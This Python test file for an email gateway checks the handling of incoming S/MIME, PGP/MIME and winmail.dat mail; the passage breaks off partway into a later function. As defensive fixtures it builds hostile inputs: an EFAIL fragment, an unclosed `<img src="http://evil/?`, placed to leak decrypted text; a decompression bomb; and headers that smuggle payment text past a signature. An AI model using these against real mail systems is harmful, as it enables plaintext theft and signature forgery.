# SPDX-License-Identifier: Apache-2.0
"""Incoming S/MIME and PGP/MIME, made by openssl and gpg: what is opened, for whom, what is said of signatures, and what
stays shut. `sealpost explain --incoming`, the gateway's own pipeline without an MTA."""
import base64
import hashlib
import re
import shutil
import struct
import sys
import tempfile
import zlib

from foreign import multipart
from lib import Office, Tap

from demo import people as cast
from demo.pki import Authority
from demo.process import run

ALICE, BOSS, SOFIA, PETER = cast.ALICE, cast.BOSS, cast.SOFIA, cast.PETER
ELLI = cast.Person("elli@firma.example", "Elli Curve", smime="ec")
ENTITY = b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nGeheim\r\n"


# The JSON of explain is a contract.
LAYER = {"part", "kind", "result", "reason", "algorithm", "key", "sha256"}
SIGNATURE = {"part", "kind", "covers", "result", "form", "signer", "matches_from", "key"}


class Work(Office):
    def __init__(self, folder):
        super().__init__(folder, 'internal domains "firma.example"\noutgoing require smime\n',
                         ALICE, BOSS, SOFIA, ELLI, PETER)
        self.foreign = Authority(self.folder / "other").person("Eve", SOFIA.address)
        for person in (ALICE, BOSS, ELLI):
            self.take_keys(person, "cert.pem", "key.pem")
        self.take_keys(ALICE, "secret.asc")
        self.take_keys(PETER, "public.asc")
        self.home = self.folder / "gpg"
        self.home.mkdir(mode=0o700)
        self.gpg("--import", self.cabinet(PETER, "secret.asc"), self.cabinet(ALICE, "public.asc"),
                 self.cabinet(BOSS, "public.asc"))

    def gpg(self, *words, stdin=None):
        return run(["gpg", "--homedir", self.home, "--batch", "--quiet", "--armor",
                    "--trust-model", "always", *words], stdin=stdin).stdout

    def pgp_encrypted(self, entity, *people, options=("--sign", "-u", PETER.address)):
        to = [word for person in people for word in ("-r", person.address)]
        armour = self.gpg(*options, *to, "--encrypt", stdin=entity)
        return pgp_mime(armour)

    def pgp_signed(self, entity):
        armour = self.gpg("-u", PETER.address, "--detach-sign", "--digest-algo", "SHA256",
                          stdin=entity)
        return (b'Content-Type: multipart/signed; micalg=pgp-sha256; boundary="b";\r\n'
                b' protocol="application/pgp-signature"\r\n\r\n--b\r\n' + entity +
                b"\r\n--b\r\nContent-Type: application/pgp-signature\r\n\r\n" +
                crlf(armour) + b"\r\n--b--\r\n")

    def signed(self, entity, *options, who=None):
        cert, key = who[::-1] if who else (self.cabinet(SOFIA, "cert.pem"),
                                           self.cabinet(SOFIA, "key.pem"))
        return crlf(run(["openssl", "cms", "-sign", "-binary", "-signer", cert, "-inkey", key,
                         "-certfile", self.authority.intermediate, *options], stdin=entity).stdout)

    def encrypted(self, entity, *people, cipher="-aes-256-cbc"):
        return crlf(run(["openssl", "cms", "-encrypt", "-binary", cipher,
                         *[self.cabinet(p, "cert.pem") for p in people]], stdin=entity).stdout)

    def explain(self, entity, *to, sender=SOFIA.address, mime=b"MIME-Version: 1.0\r\n"):
        """(JSON, the files that would leave) of a message with this content; mime: the field, where it has none."""
        out = self.folder / "out"
        if b"\nmime-version:" not in b"\n" + entity.split(b"\r\n\r\n")[0].lower():
            entity = mime + entity
        shutil.rmtree(out, ignore_errors=True)
        message = (f"From: Sofia <{sender}>\r\nSubject: s\r\nX-Sealpost-Incoming: forged\r\n"
                   "Bcc: a stranger's, not ours <b@x.example>\r\n"
                   "Authentication-Results: GATEWAY; smime=pass\r\n").encode() + entity
        answer, status = self.sealpost.explain(sender, [p.address for p in to], message,
                                               "--incoming", "--output", str(out))
        assert status == 0, answer
        for variant in answer["variants"]:
            assert all(LAYER <= layer.keys() for layer in variant["layers"]), variant
            assert all(SIGNATURE <= signature.keys() for signature in variant["signatures"]), variant
        return answer, [(out / v["file"]).read_bytes() for v in answer["variants"]]


def pgp_mime(armour):
    return (b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted";\r\n'
            b' boundary="b"\r\n\r\n--b\r\nContent-Type: application/pgp-encrypted\r\n\r\n'
            b"Version: 1\r\n\r\n--b\r\nContent-Type: application/octet-stream\r\n\r\n" +
            crlf(armour) + b"\r\n--b--\r\n")


def crlf(data):
    return re.sub(rb"(?<!\r)\n", b"\r\n", data)


def layers(variant):
    return [(x["kind"], x["result"], x.get("reason")) for x in variant["layers"]]


def signatures(variant):
    return [(x["result"], x["signer"], x["matches_from"]) for x in variant["signatures"]]


def opened(kind="smime-encrypted"):
    return (kind, "opened", None)


GOOD = ("good", SOFIA.address, True)


def forms(work, tap):
    with tap.case("encrypted, each cipher and key: opened in place, the bytes as they were"):
        for cipher, kind, warned in (("-aes-256-cbc", "smime-encrypted", True),
                                     ("-aes-128-cbc", "smime-encrypted", True),
                                     ("-des3", "smime-encrypted", True),
                                     ("-aes-256-gcm", "smime-auth-encrypted", False)):
            for person in (ALICE, ELLI):
                answer, files = work.explain(work.encrypted(ENTITY, person, cipher=cipher), person)
                variant = answer["variants"][0]
                assert answer["recipients"][0]["way"] == "opened", (cipher, answer)
                assert layers(variant) == [opened(kind)], variant
                assert variant["layers"][0]["sha256"] == hashlib.sha256(ENTITY).hexdigest()
                assert ("not-protected-against-change" in variant["warnings"]) == warned
                assert ("weak-cipher" in variant["warnings"]) == (cipher == "-des3")
                assert files[0].endswith(ENTITY.split(b"\r\n\r\n")[1])
                assert b"pkcs7" not in files[0] and b"forged" not in files[0]
                assert b"\r\nBcc: a stranger's, not ours <b@x.example>\r\n" in files[0]
    with tap.case("signed inside: good, and the warning is gone"):
        answer, files = work.explain(work.encrypted(work.signed(ENTITY), ALICE), ALICE)
        variant = answer["variants"][0]
        assert layers(variant) == [opened(), opened("smime-signed")], variant
        assert signatures(variant) == [GOOD] and not variant["warnings"], variant
        assert files[0].startswith(b"Authentication-Results: ") and b"smime=pass (good)" in files[0]
    with tap.case("opaque: unwrapped; triple: unwrapped to the middle"):
        answer, files = work.explain(work.signed(ENTITY, "-nodetach"), ALICE)
        assert layers(answer["variants"][0]) == [opened("smime-opaque-signed")]
        assert signatures(answer["variants"][0]) == [GOOD] and b"Geheim" in files[0]
        triple = work.signed(work.encrypted(work.signed(ENTITY), ALICE))
        answer, files = work.explain(triple, ALICE)
        assert layers(answer["variants"][0]) == [opened("smime-signed"), opened(),
                                                 opened("smime-signed")]
        assert b"Geheim" in files[0] and signatures(answer["variants"][0]) == [GOOD, GOOD]
    with tap.case("clear-signed: stays as it came, with the result on top"):
        entity = work.signed(ENTITY)
        answer, files = work.explain(entity, ALICE)
        assert answer["recipients"][0]["way"] == "unchanged"
        assert signatures(answer["variants"][0]) == [GOOD]
        assert entity.split(b"\r\n\r\n", 1)[1] in files[0]


def der(tag, *parts):
    body = b"".join(parts)
    size = len(body)
    octets = size.to_bytes((size.bit_length() + 7) // 8, "big")
    return bytes([tag]) + (bytes([size]) if size < 128 else bytes([0x80 | len(octets)]) + octets) + body


def compressed(content):
    """CompressedData (RFC 3274): no tool here makes it."""
    smime = bytes.fromhex("2a864886f70d010910")
    data = der(0x30, der(6, bytes.fromhex("2a864886f70d010701")),
               der(0xa0, der(4, zlib.compress(content))))
    inner = der(0x30, der(2, b"\0"), der(0x30, der(6, smime + b"\x03\x08")), data)
    return pkcs7(der(0x30, der(6, smime + b"\x01\x09"), der(0xa0, inner)), "compressed-data")


def pkcs7(raw, kind):
    return (f"Content-Type: application/pkcs7-mime; smime-type={kind}; name=smime.p7z\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n").encode() + crlf(base64.encodebytes(raw))


def types(work, tap):
    with tap.case("compressed: alone, inside and outside of the others; a bomb stays shut"):
        zipped = ("smime-compressed", "opened", None)
        for entity, expected in (
                (compressed(ENTITY), [zipped]),
                (work.encrypted(compressed(work.signed(ENTITY)), ALICE),
                 [opened(), zipped, opened("smime-signed")]),
                (compressed(work.encrypted(ENTITY, ALICE)), [zipped, opened()]),
                (work.signed(work.encrypted(work.signed(ENTITY, "-nodetach"), ALICE), "-nodetach"),
                 [opened("smime-opaque-signed"), opened(), opened("smime-opaque-signed")])):
            answer, files = work.explain(entity, ALICE)
            assert layers(answer["variants"][0]) == expected, answer
            assert files[0].endswith(ENTITY.split(b"\r\n\r\n")[1]) or b"smime-signed" in files[0]
        bomb = ENTITY + b"\0" * (300 << 20)
        for entity in (compressed(bomb), compressed(compressed(bomb))):
            answer, files = work.explain(entity, ALICE)
            assert layers(answer["variants"][0])[-1] == ("smime-compressed", "shut", "too-large")
            assert len(files[0]) < 2 << 20
    with tap.case("a header inside that is over our limits: shut, as it came"):
        for large in (b"".join(b"X-%d: y\r\n" % n for n in range(25_000)) + ENTITY,
                      b"Content-Description:" + b" words and words\r\n" * 4000 + ENTITY):
            for entity in (work.encrypted(large, ALICE, cipher="-aes-256-gcm"), work.signed(large, "-nodetach"),
                           work.pgp_encrypted(large, ALICE)):
                answer, files = work.explain(entity, ALICE)
                assert [found[1:] for found in layers(answer["variants"][0])] == [("shut", "too-large")], answer
                assert files[0].endswith(entity.split(b"\r\n\r\n", 1)[1])
    with tap.case("parts nested deeper than anybody reads, or too many, outside and inside: said so"):
        deep = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(60))
        many = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\n" * 10_001
        for entity, word in ((deep, "too-deep"), (many, "too-large")):
            for sent in (entity, work.encrypted(entity, ALICE, cipher="-aes-256-gcm")):
                answer, files = work.explain(sent, ALICE)
                assert answer["variants"][0]["warnings"] == [word], answer
                assert b"warning " + word.encode() in files[0][:500] and files[0].endswith(entity), word
    with tap.case("a header inside that has two readings: no signature speaks for what it was not over"):
        old = work.signed(ENTITY)
        second = b"Content-Type: text/plain; x=1\r\n"
        fronts = (b" Pay to DE99.\r\n", b"\tPay to DE99.\r\n", b" \r\nPay to DE99.\r\n", b" \r\n Pay to DE99.\r\n",
                  b"From x Pay to DE99.\r\n", b">From x: Pay to DE99.\r\n", b"From x\r\n Pay to DE99.\r\n",
                  b"X-Y\0: z\r\n\r\nPay to DE99.\r\n")
        for front in (*fronts, second, b"Content-Transfer-Encoding: 7bit\r\nContent-transfer-encoding : 8bit\r\n"):
            inside = front + old
            if b"Pay" not in front:  # as a reader may see it who takes the other field: the preamble is text
                inside = inside.replace(b"\r\n\r\n", b"\r\n\r\nPay to DE99.\r\n", 1)
            for entity in (compressed(inside), work.encrypted(inside, ALICE, cipher="-aes-256-gcm"),
                           work.encrypted(inside, ALICE), work.pgp_encrypted(inside, ALICE, options=())):
                answer, files = work.explain(entity, ALICE)
                variant = answer["variants"][0]
                if b"Pay to DE99." in files[0]:
                    assert not variant["signatures"], (front, answer)
                else:
                    assert layers(variant)[-1][1:] == ("shut", "damaged"), (front, answer)
    with tap.case("types as they come: octet-stream with .p7m, no smime-type, an old name, no name"):
        sealed, opaque = work.encrypted(ENTITY, ALICE), work.signed(ENTITY, "-nodetach")
        for whole, kind in ((sealed, "smime-encrypted"), (opaque, "smime-opaque-signed")):
            body = whole.split(b"\r\n\r\n", 1)[1]
            for head in ("application/octet-stream; name=smime.p7m", "application/x-pkcs7-mime",
                         "application/octet-stream; name=smime.p7s", "application/octet-stream; name=SMIME.p7z",
                         'APPLICATION/PKCS7-MIME; NAME="smime.p7m"',
                         'application/octet-stream\r\nContent-Disposition: attachment; filename="x.P7M"'):
                entity = f"Content-Type: {head}\r\nContent-Transfer-Encoding: base64\r\n\r\n".encode() + body
                answer, _ = work.explain(entity, ALICE)
                assert layers(answer["variants"][0]) == [opened(kind)], (head, answer)
            raw = base64.b64decode(body)
            ragged = b"\r\n".join(base64.b64encode(raw)[i:i + 61] + b" " for i in range(0, len(raw) * 2, 61))
            for broken in (base64.b64encode(raw)[:900] + b"\r\n" + base64.b64encode(raw)[900:] + b"\r\n",
                           ragged, body.replace(b"\r\n", b"\r\n\r\n"), body.replace(b"\r\n", b"\n\t")):
                answer, _ = work.explain(whole.split(b"\r\n\r\n", 1)[0] + b"\r\n\r\n" + broken, ALICE)
                assert layers(answer["variants"][0]) == [opened(kind)], (broken[:100], answer)
    with tap.case("a signature part by what it holds: renamed, in quoted-printable, with no CR"):
        clear = work.signed(ENTITY)
        armour = work.pgp_signed(ENTITY)

        def found(entity, sender):
            return signatures(work.explain(entity, ALICE, sender=sender)[0]["variants"][0])

        lone = work.signed(ENTITY).rsplit(b"\r\n\r\n", 2)[1].split(b"\r\n------")[0]
        answer, _ = work.explain(b"Content-Type: application/octet-stream; name=smime.p7s\r\n"
                                 b"Content-Transfer-Encoding: base64\r\n\r\n" + lone, ALICE)
        assert not answer["variants"][0]["layers"], "a signature alone is a file"
        for old, new in ((b"application/x-pkcs7-signature", b"application/octet-stream"),
                         (b"application/pkcs7-signature", b"application/octet-stream"),
                         (b"protocol=", b"x-protocol="), (b"micalg=", b"MICALG=X"), (b"\r\n", b"\n")):
            assert found(clear.replace(old, new), SOFIA.address) == [GOOD], new
        pgp_good = [("good", PETER.address, True)]
        head, mark, rest = armour.rpartition(b"Content-Type: application/pgp-signature\r\n")
        for entity in (armour.replace(b"application/pgp-signature", b"application/broken"),
                       armour.replace(b"\r\n", b"\n"),
                       head + mark + b"Content-Transfer-Encoding: quoted-printable\r\n" +
                       rest.split(b"\r\n--b--")[0].replace(b"=", b"=3D") + b"\r\n--b--\r\n",
                       head + mark + b"Content-Transfer-Encoding: base64\r\n\r\n" + crlf(base64.encodebytes(
                           rest[2:].split(b"\r\n--b--")[0])) + b"--b--\r\n"):
            assert found(entity, PETER.address) == pgp_good, entity
        damaged = re.sub(rb"(BEGIN PGP SIGNATURE-----\r\n\r\n)....", rb"\1iQEz", armour)
        assert [s[0] for s in found(damaged, PETER.address)] == ["bad"]
    with tap.case("a text without a head inside, and a signature whose text lost its CRs in OpenPGP"):
        answer, files = work.explain(work.encrypted(b"Just words.\n", ALICE), ALICE)
        assert layers(answer["variants"][0]) == [opened()] and b"Just words." in files[0], answer
        lost = work.pgp_encrypted(work.pgp_signed(ENTITY).replace(b"\r\n", b"\n"), ALICE, options=())
        answer, _ = work.explain(lost, ALICE, sender=PETER.address)
        assert signatures(answer["variants"][0]) == [("good", PETER.address, True)], answer


def owners(work, tap):
    with tap.case("for two of whom one has the key: two variants, the other sees nothing"):
        answer, files = work.explain(work.encrypted(ENTITY, ALICE), ALICE, BOSS)
        assert [r["way"] for r in answer["recipients"]] == ["opened", "unchanged"]
        assert layers(answer["variants"][1]) == [("smime-encrypted", "shut", "no-key")]
        assert b"Geheim" in files[0] and b"Geheim" not in files[1]
    with tap.case("for two who both have one: one variant"):
        answer, _ = work.explain(work.encrypted(ENTITY, ALICE, BOSS), ALICE, BOSS)
        assert [r["way"] for r in answer["recipients"]] == ["opened", "opened"]
    with tap.case("captured and sent to somebody else: shut"):
        answer, files = work.explain(work.encrypted(ENTITY, ALICE), BOSS, sender="eve@else.example")
        assert answer["recipients"][0]["way"] == "unchanged" and b"Geheim" not in files[0]
    with tap.case("a part beside others, an attached message: shut (EFAIL)"):
        inner = work.encrypted(ENTITY, ALICE)
        mixed = (b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n'
                 b'Content-Type: text/html\r\n\r\n<img src="http://evil/?\r\n--b\r\n' + inner +
                 b"\r\n--b--\r\n")
        attached = b"Content-Type: message/rfc822\r\n\r\nSubject: x\r\n" + inner
        for entity, found in ((mixed, [("smime-encrypted", "shut", "foreign-part")]),
                              (attached, [])):
            answer, files = work.explain(entity, ALICE)
            assert answer["recipients"][0]["way"] == "unchanged"
            assert layers(answer["variants"][0]) == found, answer
            assert b"Geheim" not in files[0] and entity in files[0]


def verdicts(work, tap):
    with tap.case("a signer who is not the sender; an unknown CA; changed bytes: as they are"):
        answer, _ = work.explain(work.signed(ENTITY), ALICE, sender="eve@else.example")
        assert signatures(answer["variants"][0]) == [("good", SOFIA.address, False)]
        answer, files = work.explain(work.signed(ENTITY, who=work.foreign), ALICE)
        assert [s[0] for s in signatures(answer["variants"][0])] == ["untrusted"]
        assert b"smime=neutral" in files[0]
        answer, files = work.explain(work.signed(ENTITY).replace(b"Geheim", b"Gehe1m"), ALICE)
        assert [s[0] for s in signatures(answer["variants"][0])] == ["bad"]
        assert b"smime=fail" in files[0]
    with tap.case("two From lines: nothing matches, and it is said"):
        answer, _ = work.explain(b"From: alice@firma.example\r\n" + work.signed(ENTITY), ALICE)
        assert not answer["variants"][0]["signatures"][0]["matches_from"]
        assert "several-from" in answer["variants"][0]["warnings"]
    with tap.case("damaged ones: delivered as they came"):
        for cipher in ("-aes-256-cbc", "-aes-256-gcm"):
            whole = work.encrypted(ENTITY * 50, ALICE, cipher=cipher)
            head, body = whole.split(b"\r\n\r\n", 1)
            raw = bytearray(base64.b64decode(body))
            brokens = [raw[:-40], raw[:len(raw) // 2], raw[:5]]
            if "gcm" in cipher:  # one in 256 garbled CBC messages ends like a whole one
                brokens.append(raw[:-60] + b"\0" * 60)
            for broken in brokens:
                entity = head + b"\r\n\r\n" + crlf(base64.encodebytes(bytes(broken)))
                answer, files = work.explain(entity, ALICE)
                assert answer["recipients"][0]["way"] == "unchanged", answer
                assert b"Geheim" not in files[0] and entity in files[0]
    with tap.case("nested beyond the limit: the rest stays shut"):
        entity = ENTITY
        for _ in range(10):
            entity = work.encrypted(entity, ALICE)
        answer, _ = work.explain(entity, ALICE)
        assert layers(answer["variants"][0])[8] == ("smime-encrypted", "shut", "too-deep")
    with tap.case("our own header fields from outside are gone, our name too"):
        name = re.search(rb"Authentication-Results: ([^;]+);",
                         work.explain(work.signed(ENTITY), ALICE)[1][0]).group(1)
        entity = b"Authentication-Results: " + name + b"; smime=pass\r\n" + ENTITY
        assert b"smime=pass" not in work.explain(entity, ALICE)[1][0].replace(b"GATEWAY; smime=pass", b"")


def tnef(kind, *files):
    """A winmail.dat (MS-OXTNEF) of that message class; no tool here makes one."""
    def attribute(level, number, data):
        return struct.pack("<BII", level, number, len(data)) + data + struct.pack("<H", sum(data) % 65536)

    whole = struct.pack("<IH", 0x223E9F78, 1) + attribute(1, 0x00089006, b"\0\0\1\0") + \
        attribute(1, 0x00069007, struct.pack("<II", 1252, 0))
    if kind:
        whole += attribute(1, 0x00078008, kind.encode() + b"\0")
    for name, data in files:
        whole += attribute(2, 0x00069002, b"\1\0\xff\xff\xff\xff" + bytes(8)) + \
            attribute(2, 0x00018010, name + b"\0") + attribute(2, 0x0006800F, data)
    return whole


def winmail(data, kind="application/ms-tnef; name=winmail.dat"):
    return (f"Content-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\n"
            "Content-Disposition: attachment\r\n\r\n").encode() + crlf(base64.encodebytes(data))


def mixed(*parts):
    return multipart("multipart/mixed", "", parts)


TNEF_KINDS = ("application/ms-tnef; name=winmail.dat", "application/vnd.ms-tnef", "application/ms-tnef; name=x",
              "application/octet-stream", "application/x-unknown; name=Winmail.DAT")
BLANK = b"Content-Type: text/plain\r\n\r\n\r\n"


def rich_text(work, tap):
    unknown, letter = tnef(""), tnef("IPM.Microsoft Mail.Note", (b"contract.p7m", b"0\x80" * 30))
    with tap.case("winmail.dat, an ordinary letter, alone or beside a text: nothing is said, it is left alone"):
        for kind in TNEF_KINDS:
            for entity in (winmail(letter, kind), mixed(ENTITY, winmail(letter, kind))):
                answer, files = work.explain(entity, ALICE)
                assert answer["variants"][0]["warnings"] == [] and b"X-Sealpost" not in files[0], answer
                assert files[0].endswith(entity)
    with tap.case("winmail.dat that cannot be read, whatever it is called: said so, and left as it is"):
        for kind in TNEF_KINDS:
            for entity in (winmail(unknown, kind), mixed(ENTITY, winmail(letter[:20], kind))):
                answer, files = work.explain(entity, ALICE)
                assert answer["variants"][0]["warnings"] == ["tnef"], (kind, answer)
                assert b"X-Sealpost-Incoming: warning tnef\r\n" in files[0] and files[0].endswith(entity)
        entity = winmail(unknown)
        for wrapped in (work.signed(mixed(ENTITY, entity)), work.signed(entity, "-nodetach"),
                        work.encrypted(entity, ALICE, cipher="-aes-256-gcm"), work.pgp_encrypted(entity, ALICE)):
            answer, files = work.explain(wrapped, ALICE)
            assert answer["variants"][0]["warnings"] == ["tnef"] and b"warning tnef" in files[0], answer
    with tap.case("no winmail.dat: by the name alone, in an attached message, in a bounce"):
        attached = b"Content-Type: message/rfc822\r\n\r\nSubject: x\r\n" + winmail(unknown)
        report = multipart("multipart/report", "; report-type=delivery-status", [ENTITY, winmail(unknown)])
        for entity in (winmail(b"PK\3\4" + unknown), winmail(unknown[:3]), winmail(b""), mixed(ENTITY, attached),
                       report, winmail(unknown, "image/png"), mixed(ENTITY, ENTITY)):
            answer, files = work.explain(entity, ALICE)
            assert answer["variants"][0]["warnings"] == [] and b"X-Sealpost" not in files[0], answer


def smime_in_winmail(work, tap):
    unpacked, signed = ("tnef", "opened", None), opened("smime-opaque-signed")
    opaque, clear = work.signed(ENTITY, "-nodetach"), work.signed(ENTITY)
    sealed, gcm = work.encrypted(opaque, ALICE), work.encrypted(ENTITY, ALICE, cipher="-aes-256-gcm")
    clear = clear[clear.index(b"Content-Type: multipart/signed"):]

    def raw(entity):
        return base64.b64decode(entity.split(b"\r\n\r\n", 1)[1])

    def packed(content, kind=TNEF_KINDS[0], of="IPM.Note.SMIME", more=()):
        return winmail(tnef(of, (b"smime.p7m", content), *more), kind)

    def found(entity, *expected, to=ALICE):
        answer, files = work.explain(entity, to)
        variant, = answer["variants"]
        assert layers(variant) == list(expected), answer
        return variant, files[0]

    def stays(entity, *expected, to=ALICE):
        variant, delivered = found(entity, *expected, to=to)
        assert variant["way"] == "unchanged" and delivered.endswith(entity) and not variant["signatures"], variant

    with tap.case("S/MIME in a winmail.dat that is all of the message is opened in its place"):
        for kind in TNEF_KINDS:
            for entity in (packed(raw(sealed), kind), mixed(BLANK, packed(raw(sealed), kind))):
                variant, delivered = found(entity, unpacked, opened(), signed)
                assert signatures(variant) == [GOOD] and not variant["warnings"], variant
                assert delivered.endswith(b"\r\n\r\nGeheim\r\n") and b"winmail" not in delivered, delivered
        variant, delivered = found(packed(raw(gcm)), unpacked, opened("smime-auth-encrypted"))
        assert delivered.endswith(b"\r\n\r\nGeheim\r\n") and not variant["warnings"]
        variant, delivered = found(packed(sealed), unpacked, opened(), signed)  # with its MIME header
        assert delivered.endswith(b"\r\n\r\nGeheim\r\n") and signatures(variant) == [GOOD]
    with tap.case("... or verified: opaque, clear-signed, which stays signed, and changed"):
        variant, delivered = found(packed(raw(opaque)), unpacked, signed)
        assert signatures(variant) == [GOOD] and delivered.endswith(b"\r\n\r\nGeheim\r\n")
        for of in ("IPM.Note.SMIME.MultipartSigned", "ipm.note.smime"):
            variant, delivered = found(packed(clear, of=of), unpacked, opened("smime-signed"))
            assert signatures(variant) == [GOOD] and b"smime=pass" in delivered
            assert delivered.endswith(clear.split(b"\r\n\r\n", 1)[1]) and b"winmail" not in delivered, delivered
        work.sealpost.set("incoming", unwrap_signed="false")
        variant, delivered = found(packed(raw(opaque)), unpacked, signed)
        assert signatures(variant) == [GOOD] and b"winmail" not in delivered, delivered
        assert raw(delivered) == raw(opaque), "the S/MIME message itself, for clients to verify"
        work.sealpost.set("incoming", unwrap_signed="true")
        variant, _ = found(packed(clear.replace(b"Geheim", b"Gehe1m")), unpacked, opened("smime-signed"))
        assert [s[0] for s in signatures(variant)] == ["bad"], variant
    with tap.case("... and inside other layers; a cipher that anybody can change leaves room beside a signature"):
        variant, _ = found(work.pgp_encrypted(packed(raw(opaque)), ALICE, options=()), opened("pgp-encrypted"),
                           unpacked, signed)
        assert signatures(variant) == [GOOD] and not variant["warnings"], variant
        variant, _ = found(work.encrypted(packed(raw(opaque)), ALICE), opened(), unpacked, signed)
        assert variant["warnings"] == ["not-protected-against-change"], variant
    with tap.case("what cannot be opened stays in its winmail.dat"):
        stays(packed(raw(sealed)), unpacked, ("smime-encrypted", "shut", "no-key"), to=BOSS)
        foreign = ("tnef", "shut", "foreign-part")
        for entity in (mixed(ENTITY, packed(raw(sealed))), mixed(packed(raw(sealed)), packed(raw(sealed)))):
            stays(entity, *[foreign] * entity.count(b"winmail"))
        damaged = ("tnef", "shut", "damaged")
        for entity in (packed(b"words"), packed(b""), packed(ENTITY), packed(raw(sealed)[:3]),
                       packed(raw(sealed), more=[(b"a.txt", b"text")]), winmail(tnef("IPM.Note.SMIME")),
                       packed(work.pgp_signed(ENTITY)), winmail(tnef("IPM.Note.SMIME", (b"x", raw(sealed)))[:-40])):
            stays(entity, damaged)
    with tap.case("an ordinary letter's attachment is a document, whatever it is called and holds"):
        for of in ("IPM.Microsoft Mail.Note", "IPM.Note", "IPM.NoteSMIME"):
            stays(packed(raw(sealed), of=of))


def openpgp(work, tap):
    with tap.case("PGP/MIME, signed and encrypted in one; encrypted alone; as Exchange leaves it"):
        entity = work.pgp_encrypted(ENTITY, ALICE)
        mangled = entity.replace(b"multipart/encrypted;", b"multipart/mixed;")
        for content in (entity, mangled):
            answer, files = work.explain(content, ALICE, sender=PETER.address)
            variant = answer["variants"][0]
            assert answer["recipients"][0]["way"] == "opened", answer
            assert layers(variant) == [opened("pgp-encrypted")], variant
            assert signatures(variant) == [("good", PETER.address, True)], variant
            assert b"Geheim" in files[0] and b"PGP MESSAGE" not in files[0]
            assert b"pgp=pass (good)" in files[0]
        answer, _ = work.explain(work.pgp_encrypted(ENTITY, ALICE, options=()), ALICE)
        assert layers(answer["variants"][0]) == [opened("pgp-encrypted")]
        assert not answer["variants"][0]["signatures"]
    with tap.case("PGP/MIME signed: stays, with the result on top; changed bytes; another sender"):
        entity = work.pgp_signed(ENTITY)
        answer, files = work.explain(entity, ALICE, sender=PETER.address)
        assert answer["recipients"][0]["way"] == "unchanged" and entity in files[0]
        assert signatures(answer["variants"][0]) == [("good", PETER.address, True)], answer
        answer, _ = work.explain(entity.replace(b"Geheim", b"Gehe1m"), ALICE, sender=PETER.address)
        assert signatures(answer["variants"][0])[0][0] == "bad"
        answer, _ = work.explain(entity, ALICE, sender="eve@else.example")
        assert signatures(answer["variants"][0])[0] == ("good", PETER.address, False)
    with tap.case("armour without a checksum (RFC 9580), whatever its base64 ends with"):
        for more in (b"", b"1", b"12"):
            for whole in (work.pgp_signed(ENTITY), work.pgp_encrypted(ENTITY + more, ALICE, options=(
                    "--sign", "-u", PETER.address, "--compress-algo", "none"))):
                without = re.sub(rb"\r\n=....(\r\n-----END PGP)", rb"\1", whole)
                assert without != whole
                answer, _ = work.explain(without, ALICE, sender=PETER.address)
                assert signatures(answer["variants"][0]) == [("good", PETER.address, True)], answer
    with tap.case("an armour that is the whole text"):
        armour = crlf(work.gpg("-r", ALICE.address, "--encrypt", stdin=b"Geheim\n"))
        answer, files = work.explain(b"Content-Type: text/plain\r\n\r\n" + armour, ALICE)
        assert layers(answer["variants"][0]) == [opened("pgp-inline-encrypted")], answer
        assert b"Geheim" in files[0]
    with tap.case("for somebody else; without integrity protection; damaged: shut"):
        for recipient in (BOSS, ALICE):
            answer, files = work.explain(work.pgp_encrypted(ENTITY, BOSS), recipient)
            assert layers(answer["variants"][0]) == [("pgp-encrypted", "shut", "no-key")], answer
            assert b"Geheim" not in files[0]
        whole = work.pgp_encrypted(ENTITY * 20, ALICE)
        lines = whole.split(b"\r\n")
        middle = len(lines) // 2
        for broken in (lines[:middle] + [lines[middle][::-1]] + lines[middle + 1:],
                       lines[:middle] + lines[middle + 3:]):
            answer, files = work.explain(b"\r\n".join(broken), ALICE)
            assert answer["recipients"][0]["way"] == "unchanged" and b"Geheim" not in files[0]
        old = work.gpg("--rfc2440", "--disable-mdc", "--cipher-algo", "3DES", "-r", ALICE.address,
                       "--encrypt", stdin=ENTITY)
        answer, files = work.explain(pgp_mime(old), ALICE)
        assert b"Geheim" not in files[0], answer


def detached(content, signature, technology):
    kind = "pgp-signature" if technology == "pgp" else "pkcs7-signature"
    data = signature if technology == "pgp" else base64.encodebytes(signature)
    encoding = b"" if technology == "pgp" else b"Content-Transfer-Encoding: base64\n"
    return multipart("multipart/signed", f'; protocol="application/{kind}"', [
        content, f"Content-Type: application/{kind}\n".encode() + encoding + b"\n" + data])


def signature_forms(work, tap):
    """Over which bytes a detached signature holds: what somebody signed with LF or CRLF, and what came."""
    unix = ENTITY.replace(b"\r\n", b"\n") + b"Second line\n"
    dos = crlf(unix)
    keys = work.cabinet(SOFIA, "cert.pem"), work.cabinet(SOFIA, "key.pem")

    def signed(content, technology):
        if technology == "pgp":
            return work.gpg("-u", PETER.address, "--detach-sign", stdin=content)
        return run(["openssl", "cms", "-sign", "-binary", "-outform", "DER", "-signer", keys[0], "-inkey", keys[1],
                    "-certfile", work.authority.intermediate], stdin=content).stdout

    for technology, sender in (("smime", SOFIA.address), ("pgp", PETER.address)):
        with tap.case(f"{technology}: the form that a signature matches is told; the other one is no reason to fail"):
            for over, came, result, form in ((dos, dos, "good", "raw"), (unix, unix, "good", "raw"),
                                             (dos, unix, "good", "crlf"), (unix, dos, "bad", None),
                                             (dos, unix.replace(b"Second", b"second"), "bad", None)):
                entity = detached(came, signed(over, technology), technology)
                # the MTA makes CRLF of all line ends, but not of those in a cipher
                for content in ([crlf(entity)] if came == dos else []) + [
                        work.encrypted(entity, ALICE, cipher="-aes-256-gcm")]:
                    answer, files = work.explain(content, ALICE, sender=sender)
                    found, = answer["variants"][0]["signatures"]
                    assert (found["result"], found["form"]) == (result, form), (over, came, answer)
                    assert (b" form=crlf" in files[0]) == (form == "crlf"), files[0]
    with tap.case("an opaque signature, and one inside a cipher, have no form to choose"):
        for entity in (work.signed(ENTITY, "-nodetach"), work.pgp_encrypted(ENTITY, ALICE)):
            answer, _ = work.explain(entity, ALICE, sender=PETER.address)
            assert [s["form"] for s in answer["variants"][0]["signatures"]] == [None], answer


def attached_signatures(work, tap):
    report = b"%PDF-1.5 Report\n"
    pgp = work.gpg("-u", PETER.address, "--detach-sign", stdin=report)
